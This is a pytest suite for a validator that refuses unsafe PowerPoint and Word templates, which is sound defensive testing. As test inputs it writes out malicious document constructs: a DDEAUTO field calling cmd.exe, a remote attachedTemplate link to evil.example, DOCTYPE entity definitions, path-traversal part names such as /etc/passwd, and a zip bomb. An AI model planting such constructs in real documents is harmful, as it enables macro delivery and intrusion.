"""Templates of PowerPoint and Word: what would run, fetch or burst is refused."""

from __future__ import annotations

import io
import struct
import tracemalloc
import zipfile
from collections.abc import Mapping

import pytest
from docx import Document
from pptx import Presentation

from cxassess.house import StyleRefused, TemplateKind
from cxassess.house.template import read_template

SLIDES, DOCUMENT = TemplateKind.SLIDES, TemplateKind.DOCUMENT
TYPES, RELATIONS = "[Content_Types].xml", "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD_SETTINGS = "word/_rels/settings.xml.rels"


def _saved(made: object) -> bytes:
    file = io.BytesIO()
    made.save(file)  # type: ignore[attr-defined]
    return file.getvalue()


PPTX, DOCX = _saved(Presentation()), _saved(Document())
CONTENT = {SLIDES: PPTX, DOCUMENT: DOCX}


def changed(content: bytes, parts: Mapping[str, bytes | None] | None = None, *, swap: tuple[str, str] = ("", "")) -> bytes:
    """The archive with other parts, without those that are None, and with other words in the list of types."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        found: dict[str, bytes | None] = {name: archive.read(name) for name in archive.namelist()}
    found |= parts or {}
    types = found[TYPES]
    if types and swap[0]:
        assert swap[0].encode() in types
        found[TYPES] = types.replace(swap[0].encode(), swap[1].encode())
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in found.items():
            if part is not None:
                archive.writestr(name, part)
    return packed.getvalue()


def relations(kind: str, target: str, mode: str = "External") -> bytes:
    """A part with one relation."""
    one = f'<Relationship Id="rId1" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{one}</Relationships>'.encode()


def word(body: str) -> bytes:
    return f'<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">{body}</w:hdr>'.encode()


def refusal_of(kind: TemplateKind, content: bytes, name: str = "huisstijl") -> str:
    with pytest.raises(StyleRefused) as refused:
        read_template(kind, name, content)
    assert refused.value.remedy.english().endswith(".")
    return refused.value.what.english()


@pytest.mark.parametrize("kind", TemplateKind)
def test_a_sound_template_is_kept_packed_anew(kind: TemplateKind) -> None:
    template = read_template(kind, "C:\\fakepath\\huisstijl.potx", CONTENT[kind] + b"trailing payload")
    assert (template.kind, template.file_name) == (kind, "huisstijl.potx")
    assert b"trailing payload" not in template.content
    assert read_template(kind, "x", template.content).content == template.content


def test_a_template_for_new_documents_opens_as_a_document() -> None:
    potx = changed(PPTX, swap=("presentation.main+xml", "template.main+xml"))
    dotx = changed(DOCX, swap=("document.main+xml", "template.main+xml"))
    with pytest.raises(ValueError, match="not a PowerPoint file"):
        Presentation(io.BytesIO(potx))
    assert len(Presentation(io.BytesIO(read_template(SLIDES, "x", potx).content)).slide_layouts) == 11
    assert Document(io.BytesIO(read_template(DOCUMENT, "x", dotx).content)).styles["Heading 1"] is not None


def test_the_link_to_the_template_that_word_leaves_is_taken_out() -> None:
    with zipfile.ZipFile(io.BytesIO(DOCX)) as archive:
        settings = archive.read("word/settings.xml")
    place = settings.index(b"<w:zoom")
    linked = settings[:place] + b'<w:attachedTemplate r:id="rId1"/>' + settings[place:]
    target = "file:///C:\\Users\\anna\\Normal.dotm"
    content = changed(DOCX, {"word/settings.xml": linked, WORD_SETTINGS: relations("attachedTemplate", target)})
    kept = read_template(DOCUMENT, "x", content).content
    with zipfile.ZipFile(io.BytesIO(kept)) as archive:
        assert not any(b"attachedTemplate" in archive.read(name) or b"anna" in archive.read(name) for name in archive.namelist())
        assert archive.read("word/settings.xml") == settings


@pytest.mark.parametrize(
    ("parts", "what"),
    [
        ({"ppt/vbaProject.bin": b"x"}, "The template holds macros or controls."),
        ({"ppt/activeX/activeX1.xml": b"<x/>"}, "The template holds macros or controls."),
        ({"ppt/embeddings/oleObject1.bin": b"x"}, "The template holds embedded files."),
        ({"ppt/slides/_rels/slide1.xml.rels": relations("oleObject", "x.bin", "Internal")}, "The template holds embedded files."),
        (
            {"ppt/_rels/x.xml.rels": relations("image", "https://example.org/x.png")},
            "The template refers to another file: https://example.org/x.png.",
        ),
        (
            {"ppt/_rels/x.xml.rels": relations("slideMaster", "\\\\host\\share")},
            "The template refers to another file: \\\\\\\\host\\\\share.",
        ),
        ({"ppt/_rels/x.xml.rels": relations("hyperlink", "file:///C:/x.exe")}, "The template refers to another file: file:///C:/x.exe."),
        ({"ppt/_rels/x.xml.rels": relations("hyperlink", "javascript:x")}, "The template refers to another file: javascript:x."),
        ({"ppt/theme/theme9.xml": b'<!DOCTYPE x [<!ENTITY e "x">]><x>&e;</x>'}, "The template holds definitions that are not allowed."),
        ({"ppt/theme/theme9.xml": "<!DOCTYPE x><x/>".encode("utf-16")}, "The template holds definitions that are not allowed."),
        ({"ppt/theme/theme9.xml": b"<x><y></x>"}, "The template is damaged."),
        ({"../outside.xml": b"<x/>"}, "The template holds a part with a name that is not allowed: ../outside.xml."),
        ({"/etc/passwd": b"x"}, "The template holds a part with a name that is not allowed: /etc/passwd."),
        ({TYPES: None}, "The file is an archive, not a template."),
        ({"ppt/presentation.xml": None}, "The template is damaged."),
        ({"ppt/slideMasters/slideMaster1.xml": None}, "The template is damaged."),
        ({"ppt/presentation.xml": b"<x/>"}, "The template is damaged."),
        ({f"ppt/{number}.bin": b"x" for number in range(500)}, "The template has 538 parts; 500 is the most."),
        ({"ppt/theme/theme9.xml": b"<x>" + b"<y/>" * 300_001 + b"</x>"}, "The template is too large when unpacked."),
    ],
)
def test_slides_with_what_may_not_be_there_are_refused(parts: dict[str, bytes | None], what: str) -> None:
    said = refusal_of(SLIDES, changed(PPTX, parts))
    assert said == what or (what.startswith("The template has 538") and said.endswith("500 is the most."))


FETCHES = "The template holds a field that fetches something from elsewhere."


@pytest.mark.parametrize(
    ("parts", "what"),
    [
        ({"word/vbaProject.bin": b"x"}, "The template holds macros or controls."),
        ({"word/embeddings/x.xlsx": b"x"}, "The template holds embedded files."),
        ({"word/_rels/x.xml.rels": relations("aFChunk", "x.html", "Internal")}, "The template holds embedded files."),
        ({"word/_rels/x.xml.rels": relations("image", "file://host/x.png")}, "The template refers to another file: file://host/x.png."),
        ({"word/header9.xml": word('<w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe "/>')}, FETCHES),
        ({"word/header9.xml": word("<w:instrText>INCLUDE</w:instrText><w:r/><w:instrText>TEXT x</w:instrText>")}, FETCHES),
        ({"elsewhere/header9.xml": word('<w:fldSimple w:instr=" DDE x "/>')}, FETCHES),
        ({"word/header9.xml": word("<w:instrText> QUOTE 68 68 69 65 </w:instrText>")}, FETCHES),
        ({"word/_rels/x.xml.rels": relations("webextensiontaskpanes", "taskpanes.xml", "Internal")}, "The template holds embedded files."),
    ],
)
def test_a_document_with_what_may_not_be_there_is_refused(parts: dict[str, bytes | None], what: str) -> None:
    assert refusal_of(DOCUMENT, changed(DOCX, parts)) == what


@pytest.mark.parametrize(
    "name",
    ["word/_rels/other.xml.rels", "elsewhere/_rels/settings.xml.rels", "word/_rels/settings.xml.rels"],
)
def test_a_link_to_a_template_on_a_server_never_stays(name: str) -> None:
    """Word fetches it, with its macros, when the document is opened. A > may stand in an address; and no byte says how text is encoded."""
    quoted = relations("attachedTemplate", "https://evil.example/a>b.dotm").decode()
    for content in (quoted.replace('Id="rId1" ', ""), quoted.replace("Type=", 'Id2="&gt;>" Type='), quoted.replace("'", '"')):
        for encoding in ("utf-8", "utf-16"):
            try:
                kept = read_template(DOCUMENT, "x", changed(DOCX, {name: content.encode(encoding)})).content
            except StyleRefused as refused:
                assert refused.what.english().startswith("The template refers to another file: ")
                continue
            with zipfile.ZipFile(io.BytesIO(kept)) as archive:
                assert not any("evil" in archive.read(part).decode("utf-8", "ignore").replace("\0", "") for part in archive.namelist())


def test_a_part_that_is_xml_under_another_name_is_refused() -> None:
    override = '<Override PartName="/word/header9.bin" ContentType="application/vnd.openxmlformats-officedocument.x.header+xml"/></Types>'
    content = changed(DOCX, {"word/header9.bin": word('<w:fldSimple w:instr=" DDE x "/>')}, swap=("</Types>", override))
    assert refusal_of(DOCUMENT, content) == "The template holds a part with a name that is not allowed: /word/header9.bin."
    default = '<Default Extension="dat" ContentType="application/xml"/></Types>'
    assert "not allowed: x.dat" in refusal_of(DOCUMENT, changed(DOCX, swap=("</Types>", default)))


def test_a_link_to_a_website_and_fields_of_its_own_may_stay() -> None:
    fields = word('<w:fldSimple w:instr=" PAGE "/><w:instrText>TOC \\o "1-3"</w:instrText><w:instrText> HYPERLINK </w:instrText>')
    parts = {"word/header9.xml": fields, "word/_rels/header9.xml.rels": relations("hyperlink", "https://example.org/")}
    assert read_template(DOCUMENT, "x", changed(DOCX, parts)).content


@pytest.mark.parametrize("kind", TemplateKind)
@pytest.mark.parametrize(
    ("content", "what"),
    [
        (b"", "The file is no template."),
        (b"%PDF-1.7", "The file is no template."),
        (b"<html></html>", "The file is no template."),
        (bytes(20_000_000), "The template is larger than 5 MB."),
        (bytes.fromhex("D0CF11E0A1B11AE1") + bytes(512), "The template is in the format of Office before 2007."),
        (
            bytes.fromhex("D0CF11E0A1B11AE1") + bytes(512) + "EncryptedPackage".encode("utf-16-le"),
            "The template is protected with a password.",
        ),
        (PPTX[:-30], "The template is damaged."),
        (PPTX[:200], "The template is damaged."),
    ],
)
def test_what_is_no_office_file_is_refused(kind: TemplateKind, content: bytes, what: str) -> None:
    assert refusal_of(kind, content) == what


def test_each_kind_is_told_from_the_other() -> None:
    assert refusal_of(SLIDES, DOCX) == "The file is a Word document, not a presentation."
    assert refusal_of(DOCUMENT, PPTX) == "The file is a presentation, not a Word document."
    workbook = changed(PPTX, swap=("presentationml.presentation.main", "spreadsheetml.sheet.main"))
    assert refusal_of(SLIDES, workbook) == "The file is no presentation and no Word document."


@pytest.mark.parametrize(
    ("kind", "old", "new"),
    [
        (
            SLIDES,
            "vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
            "vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
        ),
        (
            SLIDES,
            "vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
            "vnd.ms-powerpoint.template.macroEnabled.main+xml",
        ),
        (
            DOCUMENT,
            "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            "vnd.ms-word.template.macroEnabledTemplate.main+xml",
        ),
        (DOCUMENT, "image/jpeg", "application/vnd.ms-office.vbaProject"),
    ],
)
def test_a_file_that_says_that_it_has_macros_is_refused(kind: TemplateKind, old: str, new: str) -> None:
    assert refusal_of(kind, changed(CONTENT[kind], swap=(old, new))) == "The template holds macros or controls."


def test_hundreds_of_megabytes_in_little_are_refused_in_little_memory() -> None:
    packed = io.BytesIO(PPTX)
    with zipfile.ZipFile(packed, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive, archive.open("ppt/media/x.png", "w") as part:
        for _ in range(200):
            part.write(bytes(1_000_000))
    tracemalloc.start()
    try:
        assert refusal_of(SLIDES, packed.getvalue()) == "The template is too large when unpacked."
        assert tracemalloc.get_traced_memory()[1] < 80_000_000
    finally:
        tracemalloc.stop()


def test_a_locked_part_is_a_password_and_two_of_one_name_are_damage() -> None:
    place = PPTX.find(b"PK\x01\x02")
    locked = bytearray(PPTX)
    locked[place + 8] |= 1
    assert refusal_of(SLIDES, bytes(locked)) == "The template is protected with a password."
    twice = io.BytesIO(PPTX)
    with zipfile.ZipFile(twice, "a") as archive:
        archive.writestr("PPT/presentation.xml", b"<x/>")
    assert refusal_of(SLIDES, twice.getvalue()) == "The template is damaged."


def test_a_part_that_is_larger_than_it_says_is_damage() -> None:
    smaller, place = bytearray(PPTX), PPTX.find(b"PK\x01\x02")
    smaller[place + 24 : place + 28] = struct.pack("<I", 10)
    assert refusal_of(SLIDES, bytes(smaller)) == "The template is damaged."


@pytest.mark.parametrize("name", ["a\x07b.pptx", "x" * 121, "\u202egnp.pptx"])
def test_a_file_name_that_disturbs_is_refused(name: str) -> None:
    assert refusal_of(SLIDES, PPTX, name).startswith("The file name ")
